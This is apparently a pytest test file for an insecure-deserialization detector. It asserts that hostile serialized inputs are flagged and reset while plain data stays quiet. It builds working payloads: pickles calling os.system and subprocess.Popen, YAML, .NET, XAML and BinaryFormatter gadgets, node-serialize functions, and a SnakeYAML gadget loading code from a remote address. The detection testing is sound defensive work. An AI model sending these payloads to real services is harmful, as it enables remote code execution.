"""insecure_deserialization: Python pickles that call os.system and its kin (made by the real `pickle`
module, every protocol, sent whole, base64 in a cookie or percent-encoded in a form), YAML tags that build
a class, .NET types that run code (Json.NET's `$type`, XAML, a BinaryFormatter stream), serialized Node.js
functions; ordinary pickles, YAML's standard tags, application types and prose are no finding."""

from __future__ import annotations

import base64
import os
import pickle
import subprocess
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.verdict import WorkerVerdict
from threats import catalogue as C
from workers.detect.injection import json_values, pair_values
from workers.detect.serialized import check_serialized

from .test_body_parts import flow
from .test_engine import Lab
from .test_headers import CURL, request


class _RunsId:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("id",))


class _StartsId:
    def __reduce__(self) -> tuple[object, tuple[list[str]]]:
        return (subprocess.Popen, (["id"],))


PICKLES = [
    pickle.dumps(cls(), protocol=p)
    for p in range(pickle.HIGHEST_PROTOCOL + 1)
    for cls in (_RunsId, _StartsId)
]
PLAIN_PICKLE = pickle.dumps({"cart": [1, 2, 3], "user": "ada"}, protocol=4)

BINARY_FORMATTER = base64.b64encode(
    b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
    b"^Microsoft.PowerShell.Editor, Version=3.0.0.0\x05\x01\x00\x00\x00B"
    b"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties\x01\x00\x00\x00"
).decode()
ATTACKS = [
    ("body", b"!!python/object/apply:os.system ['id']", "PyYAML's apply tag"),
    ("body", b"a: !!python/object/new:subprocess.Popen [['id']]", "PyYAML's new tag"),
    (
        "body",
        b'x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://198.18.0.9/"]]]]',
        "SnakeYAML",
    ),
    ("body", b"--- !ruby/object:Gem::Installer\ni: x\n", "Psych's Gem::Installer"),
    (
        "json",
        b'{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start"}',
        "Json.NET",
    ),
    (
        "json",
        b'{"__type": "System.Diagnostics.Process, System, Version=4.0.0.0", "StartInfo": {}}',
        "JavaScriptSerializer",
    ),
    (
        "body",
        b'<ResourceDictionary><ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}" MethodName="Start"/></ResourceDictionary>',
        "XAML",
    ),
    (
        "cookie",
        f"viewstate={BINARY_FORMATTER}".encode(),
        "a BinaryFormatter stream (TextFormattingRunProperties)",
    ),
    (
        "json",
        b"{\"rce\": \"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        "node-serialize",
    ),
    ("json", b'{"f": {"__js_function": "function(){return process.mainModule}"}}', "funcster"),
]
BENIGN = [
    ("body", PLAIN_PICKLE, "a pickle of plain data"),
    (
        "body",
        b"tags: !!str 123\nblob: !!binary aGVsbG8=\nwhen: !!timestamp 2026-01-01\n",
        "YAML's standard tags",
    ),
    ("json", b'{"$type": "Shop.Models.Order, Shop", "id": 3}', "an application's own type"),
    ("json", b'{"doc": "System.Diagnostics.Process starts programs"}', "prose naming a class"),
    ("body", b"We use !!important in CSS, cos and sin in maths\nsystem\n", "prose"),
    ("cookie", b"session=gAAAAABl2dE3xyz_fernet-token-not-a-pickle", "a Fernet token"),
]


def found(where: str, data: bytes) -> bool:
    if where == "json":
        hit = check_serialized(data, list(json_values(data)))
    elif where == "cookie":
        hit = check_serialized(b"", list(pair_values(data.decode())))
    else:
        hit = check_serialized(data, [])
    assert hit is None or hit.threat is C.INSECURE_DESERIALIZATION
    return hit is not None


@pytest.mark.parametrize("data", PICKLES, ids=lambda d: "protocol-" + str(d[1] if d[0] == 0x80 else 0))
def test_a_pickle_that_calls_a_command_is_found_whole_base64_or_in_a_form(data: bytes) -> None:
    assert found("body", data)
    assert found("cookie", b"session=" + base64.b64encode(data))
    assert found("cookie", b"session=" + base64.urlsafe_b64encode(data).rstrip(b"="))
    if data[:1] != b"\x80":  # (protocols 0 and 1 open with GLOBAL's text lines, read as they are)
        assert found("cookie", b"data=" + quote(data.decode("latin-1")).encode())


@pytest.mark.parametrize(("where", "data", "why"), ATTACKS)
def test_yaml_dotnet_and_node_objects_that_run_code_are_found(where: str, data: bytes, why: str) -> None:
    assert found(where, data), why


@pytest.mark.parametrize(("where", "data", "why"), BENIGN)
def test_plain_data_standard_tags_and_prose_are_no_finding(where: str, data: bytes, why: str) -> None:
    assert not found(where, data), why


def test_the_finding_names_what_the_pickle_calls() -> None:
    hit = check_serialized(PICKLES[-2], [])
    assert hit is not None and hit.detail.endswith("system") and "pickle" in hit.detail


@given(st.binary(max_size=300))
def test_the_check_is_total(data: bytes) -> None:
    hit = check_serialized(b"\x80\x04" + data + b".", [data.decode("latin-1"), "gASV" + data.hex()])
    assert hit is None or (
        hit.threat is C.INSECURE_DESERIALIZATION and len(hit.excerpt) <= C.MAX_FINDING_EXCERPT
    )


@pytest.mark.parametrize(
    ("headers", "body", "path", "port"),
    [
        ([*CURL, ("Cookie", "session=" + base64.b64encode(PICKLES[-2]).decode())], b"", "/dashboard", 42960),
        ([*CURL, ("Content-Type", "application/json")], ATTACKS[4][1], "/api/import", 42961),
        ([*CURL, ("Content-Type", "application/x-yaml")], ATTACKS[0][1], "/api/config", 42962),
    ],
)
def test_insecure_deserialization_is_reset_in_protect(
    headers: list[tuple[str, str]], body: bytes, path: str, port: int
) -> None:
    lab = Lab()
    verdicts = lab.send(flow(request("POST", headers, body, path), port))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
    [event] = lab.threats("insecure_deserialization")
    assert event["action"] == "reset" and event["group"] == "web"


def test_a_session_cookie_holding_plain_data_stays_quiet() -> None:
    lab = Lab()
    cookie = "session=" + base64.b64encode(PLAIN_PICKLE).decode()
    verdicts = lab.send(flow(request("GET", [*CURL, ("Cookie", cookie)], b"", "/cart"), 42963))
    assert WorkerVerdict.RESET_FLOW not in verdicts and lab.threats() == []
